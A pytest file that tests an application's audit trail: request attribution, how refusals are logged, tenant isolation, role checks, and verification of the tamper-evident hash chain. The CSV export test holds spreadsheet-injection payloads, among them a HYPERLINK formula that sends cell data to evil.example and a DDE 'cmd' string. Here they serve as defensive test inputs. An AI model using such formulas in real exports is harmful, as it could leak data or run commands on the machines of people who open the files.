"""The audit trail through the application: who, from where, refusals, exports, the chain."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest
import sqlalchemy as sa

from sealwire.__main__ import main
from sealwire.server import audit
from sealwire.server.audit import chain
from sealwire.server.store import tables as t
from tests.support.console import ADMIN, Console, run
from tests.support.parts import ASM_ON


async def newest(it: Console, query: str = "") -> Any:
    return (await it.get(f"/audit?limit=1{query}"))["events"][0]


async def with_role(it: Console, role: str) -> dict[str, str]:
    """The headers of somebody with another role."""
    secret = it.plane.access.create_application_key(
        1, user=f"{role}@x.org", role=role, now_ms=it.plane.now_ms()
    )
    return {"Authorization": f"Bearer {secret}"}


# Where an event comes from ----------------------------------------------------------------------------------


def test_an_event_says_who_asked_from_where_and_with_which_request(tmp_path: Path) -> None:
    async def case(it: Console) -> None:
        reply = await it.ask(
            "POST", "/keys", {"name": "web", "remote_config": True},
            headers={**it.headers, "User-Agent": "curl/8 \x1b[31m", "X-Request-Id": "chosen-by-me"},
        )  # fmt: skip
        event = await newest(it, "&action=api_key.created")

        assert reply.headers["x-request-id"] == event["request_id"] != "chosen-by-me"
        assert (event["http"]["method"], event["http"]["url"]) == ("POST", f"{ADMIN}/keys")
        assert event["http"]["useragent"] == "curl/8 �[31m"
        assert event["network"]["client"]["ip"] == "127.0.0.1"
        assert event["evt"]["actor"]["type"] == audit.APPLICATION_KEY
        assert len(event["evt"]["actor"]["id"]) == 12
        assert event["evt"]["name"] == "Authentication"
        assert (event["asset"]["type"], event["evt"]["action"]) == ("api_key", "created")
        assert event["org"]["id"] == 1
        assert reply.json()["key"] not in json.dumps(await it.get("/audit"))
        assert it.headers["Authorization"].split()[1] not in json.dumps(await it.get("/audit"))

    run(tmp_path, case)


def test_every_request_has_an_id_of_its_own_refused_ones_and_pages_too(tmp_path: Path) -> None:
    async def case(it: Console) -> None:
        found = set()
        for path in ("/healthz", f"{ADMIN}/whoami", f"{ADMIN}/nothing", "/sign-in", "/nothing"):
            found.add((await it.client.get(path)).headers["x-request-id"])
        assert len(found) == 5

    run(tmp_path, case)


def test_a_config_event_has_what_was_and_what_is(tmp_path: Path) -> None:
    async def case(it: Console) -> None:
        made = await it.put_config("ASM_FEATURES", ASM_ON, name="On", targeting={"service": ["shop"]})
        await it.put(
            f"/configs/{made['id']}",
            {"expected_revision": 1, "payload": {"asm": {"enabled": False}}, "comment": "too loud"},
        )
        event = await newest(it, "&action=config.changed")

        assert event["evt"]["name"] == "Application Security"
        assert (event["evt"]["action"], event["asset"]["type"]) == ("modified", "compatible_services")
        assert (event["asset"]["id"], event["asset"]["name"]) == (made["id"], "On")
        before, after = event["asset"]["prev_value"], event["asset"]["new_value"]
        assert (before["revision"], after["revision"]) == (1, 2)
        assert before["payload_sha256"] != after["payload_sha256"]
        assert event["detail"]["comment"] == "too loud"
        await it.published()
        alone = await it.get(f"/audit/{event['id']}")
        assert alone | {"files": []} == event | {"files": []}

    run(tmp_path, case)


def test_what_a_loop_does_later_is_not_done_by_who_made_the_organisation(tmp_path: Path) -> None:
    async def case(it: Console) -> None:
        made = await it.post("/orgs", {"name": "second"})
        tenant = it.plane.tenants[made["org_id"]]
        seen: list[audit.Context] = []
        reconcile = tenant.publisher.reconcile

        def spied(*arguments: Any, **named: Any) -> Any:
            seen.append(audit.context())
            return reconcile(*arguments, **named)

        tenant.publisher.reconcile = spied  # type: ignore[method-assign]
        tenant.reconciler.nudge()
        await tenant.reconciler.settle(timeout_s=10)

        assert seen
        assert {found.actor_type for found in seen} == {audit.SERVICE}

    run(tmp_path, case)


# Refusals ---------------------------------------------------------------------------------------------------


def test_a_flood_of_refusals_is_one_row_and_then_one_with_their_count(tmp_path: Path) -> None:
    async def case(it: Console) -> None:
        mine = it.headers
        it.headers = await with_role(it, "read_only")
        for _ in range(30):
            assert (await it.ask("POST", "/keys", {"name": "x", "remote_config": True})).status_code == 403
        it.headers = mine
        await it.get("/audit")  # writes the first
        it.plane.trail.refusals.flush(everything=True)
        refused = (await it.get("/audit?action=access.refused"))["events"]

        assert sum(event["detail"]["count"] for event in refused) == 30
        assert len(refused) <= 2
        assert refused[0]["actor"] == "read_only@x.org"
        assert refused[0]["subject"] == "permission api_keys_write"
        assert refused[0]["evt"]["action"] == "refused"
        assert (refused[0]["request_id"], refused[0]["network"]["client"]["ip"]) != ("", "")

    run(tmp_path, case)


def test_guessed_application_keys_are_in_the_trail_without_the_guesses(tmp_path: Path) -> None:
    async def case(it: Console) -> None:
        for number in range(5):
            guess = {"Authorization": f"Bearer {number:040}"}
            assert (await it.ask("GET", "/whoami", headers=guess)).status_code == 401
        assert (await it.client.get(f"{ADMIN}/whoami")).status_code == 401  # no key: nobody guessed
        it.plane.trail.refusals.flush(everything=True)
        refused = (await it.get("/audit?actor=(unknown*"))["events"]

        assert sum(event["detail"]["count"] for event in refused) == 5
        assert f"{3:040}" not in json.dumps(refused)

    run(tmp_path, case)


# Looking ----------------------------------------------------------------------------------------------------


def test_events_of_another_organisation_are_not_there(tmp_path: Path) -> None:
    async def case(it: Console) -> None:
        made = await it.post("/orgs", {"name": "second"})
        mine = (await it.get("/audit?limit=1000"))["events"]
        it.headers = {"Authorization": f"Bearer {made['application_key']}"}
        theirs = (await it.get("/audit?limit=1000"))["events"]

        assert not {event["id"] for event in mine} & {event["id"] for event in theirs}
        await it.refused("GET", f"/audit/{mine[0]['id']}", status=404)
        for odd in ("0", "-1", "x", "%00", "9" * 40, "1%2F2"):
            assert (await it.ask("GET", f"/audit/{odd}")).status_code == 404
        exported = (await it.ask("GET", "/audit/export")).text
        assert made["uuid"] in exported
        assert it.plane.tenants[1].organisation.uuid not in exported
        assert (await it.get("/audit/head"))["org"] == made["uuid"]

    run(tmp_path, case)


def test_who_may_not_see_or_export_the_trail_does_not(tmp_path: Path) -> None:
    async def case(it: Console) -> None:
        it.headers = await with_role(it, "standard")
        for method, path in (
            ("GET", "/audit"), ("GET", "/audit/1"), ("GET", "/audit/head"), ("GET", "/audit/export"),
            ("POST", "/audit:check"),
        ):  # fmt: skip
            await it.refused(method, path, status=403)
        for path in ("/audit", "/audit/1", "/audit/1/change", "/audit/export?format=csv"):
            reply = await it.client.get(path, headers={**it.headers, "Accept": "text/html"})
            assert reply.status_code == 403

    run(tmp_path, case)


@pytest.mark.parametrize(
    "query", ["from=soon", "until=%00", "actor=" + "x" * 999, "text=%00", "after=-1", "limit=x"]
)
def test_what_cannot_be_looked_for_is_said(tmp_path: Path, query: str) -> None:
    async def case(it: Console) -> None:
        told = await it.refused("GET", f"/audit?{query}", status=422)
        assert [problem["path"] for problem in told["problems"]] == [f"$.{query.partition('=')[0]}"]

    run(tmp_path, case)


# Exports ----------------------------------------------------------------------------------------------------


def test_an_export_verifies_anywhere_and_is_in_the_trail_itself(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    exported: dict[str, bytes] = {}

    async def case(it: Console) -> None:
        for number in range(5):
            await it.put_config(
                "ASM_FEATURES", ASM_ON, name=f"Zoë {number}", targeting={"env": [f"e{number}"]}
            )
        await it.published()
        noted = (await it.get("/audit/head"))["sha256"]
        reply = await it.ask("GET", "/audit/export")
        assert reply.headers["content-type"].startswith("application/jsonl")
        assert "attachment" in reply.headers["content-disposition"]
        assert (await newest(it, "&action=audit.*"))["action"] == "audit.exported"
        exported.update(raw=reply.content, noted=noted.encode())

    run(tmp_path / "server", case)
    lines = exported["raw"].splitlines()
    assert json.loads(lines[0])["export"]["events"] == len(lines) - 1
    assert json.loads(lines[-1])["action"] == "audit.exported"
    whole = tmp_path / "trail.jsonl"
    whole.write_bytes(exported["raw"])
    capsys.readouterr()

    assert main(["audit", "verify", str(whole)]) == 0
    assert f"{len(lines) - 1} events" in capsys.readouterr().out
    assert main(["audit", "verify", str(whole), "--expect-head", exported["noted"].decode()]) == 0
    assert main(["audit", "verify", str(whole), "--expect-head", "f" * 64]) == 1
    assert "another chain" in capsys.readouterr().out
    for broken, word in (
        ([*lines[:3], lines[3].replace(b"Made", b"Lost"), *lines[4:]], "changed"),
        ([*lines[:3], *lines[4:]], "missing"),
        ([*lines[:3], lines[4], lines[3], *lines[5:]], "reordered"),
        ([*lines[:4], lines[3], *lines[4:]], "inserted"),
        (lines[:-1], "truncated"),
    ):
        whole.write_bytes(b"\n".join(broken) + b"\n")
        assert main(["audit", "verify", str(whole)]) == 1
        assert word in capsys.readouterr().out
    for rubbish in (b"", b"{}\n", b"not json\n", b'{"export": {"org": "x"}}\n', b"\xff\xfe", b"[" * 100_000):
        whole.write_bytes(rubbish)
        assert main(["audit", "verify", str(whole)]) == 1
    assert "is no export" in capsys.readouterr().err


def test_a_cell_that_would_be_a_formula_is_none_in_csv(tmp_path: Path) -> None:
    formula = '=HYPERLINK("http://evil.example?"&A1,"x")'

    async def case(it: Console) -> None:
        await it.post("/keys", {"name": formula, "remote_config": False})
        for sign in "+-@＝":
            await it.put_config(
                "ASM_FEATURES", ASM_ON, name=f"{sign}1+1", comment=f"{sign}cmd|' /C calc'!A0",
                targeting={"service": [f"{sign}svc"]},
            )  # fmt: skip
        secret = it.plane.access.create_application_key(
            1, user="@SUM(1+1)*cmd", role="admin", now_ms=it.plane.now_ms()
        )
        it.headers = {"Authorization": f"Bearer {secret}"}
        await it.post("/keys", {"name": "x", "remote_config": False})
        reply = await it.ask("GET", "/audit/export?format=csv")
        table = list(csv.reader(io.StringIO(reply.text)))

        assert table[0][:4] == ["id", "time", "actor", "actor_type"]
        assert "'@SUM(1+1)*cmd" in {row[2] for row in table}
        for row in table[1:]:
            for cell in row:
                assert not cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r", "＝")), cell

    run(tmp_path, case)


def test_a_filtered_export_has_its_part_and_says_that_it_is_one(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    async def case(it: Console) -> None:
        await it.put_config("ASM_FEATURES", ASM_ON)
        reply = await it.ask("GET", "/audit/export?action=config.*")
        lines = [json.loads(line) for line in reply.text.splitlines()]
        assert lines[0]["export"]["whole"] is False
        assert [line["action"] for line in lines[1:]] == ["config.created"]
        noted = await newest(it, "&action=audit.exported")
        assert noted["detail"]["filter"] == [{"field": "action", "values": ["config.*"], "negated": False}]
        (tmp_path / "part.jsonl").write_text(reply.text)
        await it.refused("GET", "/audit/export?format=xlsx", status=422)

    run(tmp_path / "server", case)
    assert main(["audit", "verify", str(tmp_path / "part.jsonl")]) == 1
    assert "part of a trail" in capsys.readouterr().out


# The chain --------------------------------------------------------------------------------------------------


def test_the_head_and_a_verification_now(tmp_path: Path) -> None:
    async def case(it: Console) -> None:
        head = await it.get("/audit/head")
        assert head["verified"] is None
        told = (await it.post("/audit:check", status=200))["verified"]
        assert (told["holds"], told["events"], told["sha256"]) == (True, head["events"], head["sha256"])

        with it.plane.database.write() as c:
            c.execute(sa.update(t.audit_events).where(t.audit_events.c.id == 1).values(actor="nobody"))
        told = (await it.post("/audit:check", status=200))["verified"]
        assert told["break"]["kind"] == chain.CHANGED
        assert told["break"]["event"] == 1
        assert [alarm["kind"] for alarm in (await it.get("/status"))["alarms"]] == ["audit-chain"]
        page = await it.client.get("/audit", headers={**it.headers, "Accept": "text/html"})
        assert "Broken" in page.text

    run(tmp_path, case)


def test_the_command_verifies_the_database_of_a_server_and_finds_a_change(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    async def case(it: Console) -> None:
        await it.post("/orgs", {"name": "second"})

    run(tmp_path, case)
    where = ["--data-dir", str(tmp_path / "data"), "--config-dir", str(tmp_path / "config")]
    capsys.readouterr()

    assert main(["audit", "verify", *where]) == 0
    assert capsys.readouterr().out.count("holds") == 2
    engine = sa.create_engine(f"sqlite:///{tmp_path / 'data' / 'sealwire.db'}")
    with engine.begin() as c:
        c.execute(sa.text("delete from audit_events where id = 2"))
    engine.dispose()
    assert main(["audit", "verify", *where, "--org", "1"]) == 1
    assert "BROKEN    missing" in capsys.readouterr().out
    assert main(["audit", "verify", "--data-dir", str(tmp_path / "nothing")]) == 1
    assert "no database" in capsys.readouterr().err


def test_ten_lines_of_the_documentation_verify_an_export(tmp_path: Path) -> None:
    text = (Path(__file__).parents[2] / "docs" / "security" / "audit.md").read_text()
    program = text.split("```python\n")[1].split("```")[0]
    assert len([line for line in program.splitlines() if line]) <= 12  # ten, an import and a word

    async def case(it: Console) -> None:
        await it.put_config("ASM_FEATURES", ASM_ON, name="Zoë")
        (tmp_path / "trail.jsonl").write_bytes((await it.ask("GET", "/audit/export")).content)

    run(tmp_path / "server", case)
    said: list[str] = []
    names = {
        "open": lambda name: io.StringIO((tmp_path / name).read_text()),
        "print": lambda *words: said.append(str(words)),
    }
    exec(program, names)
    assert "all of them" in said[-1]
    raw = (tmp_path / "trail.jsonl").read_text().replace("Zo", "Zu")
    (tmp_path / "trail.jsonl").write_text(raw)
    with pytest.raises(AssertionError):
        exec(program, names)
